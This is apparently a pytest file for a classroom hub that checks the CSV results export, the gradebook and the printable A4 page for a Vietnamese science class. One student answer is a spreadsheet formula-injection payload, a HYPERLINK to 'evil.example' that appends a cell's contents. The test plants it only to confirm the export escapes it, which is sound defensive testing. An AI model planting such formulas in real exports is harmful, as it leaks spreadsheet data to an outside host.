"""What leaves the room: a lesson's results as CSV (opened with Python's csv as Excel would),
the class's gradebook across two lessons, after the hub restarted, and the printable page on A4."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import aiohttp

from tests.classroom_hub.lessons.results_lessons import AQUAPONICS, CLASS, import_short_lesson, teach
from tests.classroom_hub.lessons.test_joining import demo_room
from tests.conftest import add_user, login, run_hub, wait_js

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"bấm vào")'
# Three students of the demo class: hs-7a-01 Ngô Anh Bình, hs-7a-02, hs-7a-03.
FIRST_LESSON = {
    "hs-7a-01": {"cau-1-vi-khuan": {"choice": ["b"]}, "cau-4-nitrat": {"text": "nitrat"},
                 "binh-chon-rau": {"choice": ["xa-lach"]}},
    "hs-7a-02": {"cau-1-vi-khuan": {"choice": ["a"]}, "cau-4-nitrat": {"text": FORMULA}},
    "hs-7a-03": {"cau-1-vi-khuan": {"choice": ["b"]}},
}  # fmt: skip
SECOND_LESSON = {"hs-7a-01": {"cau-mang": {"choice": ["a"]}}, "hs-7a-02": {"cau-mang": {"choice": ["b"]}}}


async def _get(http: aiohttp.ClientSession, url: str) -> tuple[aiohttp.ClientResponse, bytes]:
    async with http.get(url) as response:
        return response, await response.read()


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def test_results_leave_the_room_as_csv_and_a_gradebook(tmp_path: Path, system_mosquitto_url: str,
                                                             browser: Any) -> None:  # fmt: skip
    settings = demo_room(tmp_path, system_mosquitto_url)
    jar = aiohttp.CookieJar(unsafe=True)
    async with run_hub(settings) as hub, aiohttp.ClientSession(cookie_jar=jar) as http:
        password = await add_user(hub, "co-lan", "teacher")
        await http.post(f"{hub.url}/login", data={"username": "co-lan", "password": password})
        await import_short_lesson(hub, tmp_path / "short")
        first = await teach(http, hub, AQUAPONICS, FIRST_LESSON)
        second = await teach(http, hub, "ca-tho-bang-gi", SECOND_LESSON)

    # A new hub on the same data: everything below is read from what was stored.
    async with run_hub(settings) as hub, aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        await http.post(f"{hub.url}/login", data={"username": "co-lan", "password": password})

        response, data = await _get(http, f"{hub.url}/api/results/runs/{first}/results.csv")
        assert response.status == 200 and response.content_type == "text/csv"
        assert "attachment" in response.headers["Content-Disposition"]
        assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the names right
        rows = _rows(data)
        # Every student of the class list x every question shown (three quizzes and the poll).
        assert len(rows) == 40 * 3
        assert list(rows[0])[:6] == ["Lớp", "Bài học", "Ngày giờ", "Mã học sinh", "Họ và tên", "Điểm danh"]
        mine = {(r["Mã học sinh"], r["Câu hỏi"][:20]): r for r in rows}
        binh = mine[("hs-7a-01", "Trong bể aquaponics,")]
        assert binh["Họ và tên"] == "Ngô Anh Bình" and binh["Điểm danh"] == "Có mặt"
        assert binh["Câu trả lời"] == "Nhờ vi khuẩn có lợi biến amoniac thành nitrat" and binh["Mã lựa chọn"] == "b"
        assert binh["Đúng/Sai"] == "Đúng" and binh["Điểm"] == "1" and binh["Điểm tối đa"] == "1"
        assert float(binh["Thời gian trả lời (giây)"]) >= 0 and binh["Lúc trả lời"][:2] == "20"
        assert mine[("hs-7a-02", "Trong bể aquaponics,")]["Đúng/Sai"] == "Sai"
        typed = next(r for r in rows if r["Mã học sinh"] == "hs-7a-02" and r["Câu số"] == "2")
        assert typed["Câu trả lời"] == "'" + FORMULA  # shown as text, never run as a formula
        assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
        absent = [r for r in rows if r["Mã học sinh"] == "hs-7a-40"]
        assert {r["Điểm danh"] for r in absent} == {"Vắng"} and {r["Câu trả lời"] for r in absent} == {""}
        poll = mine[("hs-7a-01", "Bình chọn cuối giờ")]  # a step with a title is named by it
        assert (poll["Loại"], poll["Câu trả lời"], poll["Đúng/Sai"]) == ("Bình chọn", "Xà lách", "")

        # Excel with Vietnamese regional settings: semicolons and decimal commas.
        _response, data = await _get(http, f"{hub.url}/api/results/classes/{CLASS}/gradebook.csv?sep=semicolon")
        book_rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
        header, students, footer = book_rows[0], book_rows[1:-1], book_rows[-1]
        assert header[:2] == ["Mã học sinh", "Họ và tên"]
        assert header[-2:] == ["Điểm trung bình (thang 10)", "Số buổi vắng"]
        assert header[2].startswith("Vòng tuần hoàn nước") and header[3].startswith("Cá thở bằng gì?")
        marks = {row[0]: row[2:] for row in students}
        # Lesson 1: 3 points on offer (question 1, and the short answer for 2); lesson 2: 1.
        assert marks["hs-7a-01"] == ["10", "10", "10", "0"]
        assert marks["hs-7a-02"] == ["0", "0", "0", "0"]
        assert marks["hs-7a-03"] == ["3,3", "", "3,3", "1"]
        assert marks["hs-7a-40"] == ["", "", "", "2"]
        assert footer[1] == "Trung bình lớp" and footer[2] == "4,4" and footer[3] == "5"

        async with http.get(f"{hub.url}/api/results/classes/{CLASS}") as response:
            book = await response.json()
        assert [r["run"] for r in book["runs"]] == [first, second]
        assert book["students"][0] == {"id": "hs-7a-01", "name": "Ngô Anh Bình", "marks": {first: 10.0, second: 10.0},
                                       "average10": 10.0, "absent": 0}  # fmt: skip

        # The printable page: legible on A4 (no sideways overflow at its width, 9 pt at least).
        page = await browser.new_page(viewport={"width": 718, "height": 1047})  # A4 inside 10 mm margins, 96 dpi
        await login(page, hub, "co-lan", password, f"/gradebook?run={first}")
        await page.wait_for_selector("#students tbody tr[data-student='hs-7a-01']")
        await page.emulate_media(media="print")
        assert await page.locator("header").is_hidden() and await page.locator("#summary .toolbar").is_hidden()
        assert await page.inner_text("#run-class") == "Khoa học tự nhiên - Lớp 7A"
        assert await page.inner_text("#run-attendance") == "3/40 có mặt"
        row = await page.inner_text("#students tbody tr[data-student='hs-7a-02']")
        assert "S" in row.split() and "0" in row.split()
        await wait_js(page, "document.documentElement.scrollWidth <= 718")
        smallest = await page.evaluate(
            "Math.min(...[...document.querySelectorAll('#summary td, #summary th')]"
            ".map(e => parseFloat(getComputedStyle(e).fontSize)))"
        )
        assert smallest >= 12  # 9 pt
        pages = re.search(rb"/Type /Pages\b.*?/Count (\d+)", await page.pdf(format="A4"), re.DOTALL)
        assert pages is not None and int(pages[1]) == 2  # 40 students and 3 questions on two sheets
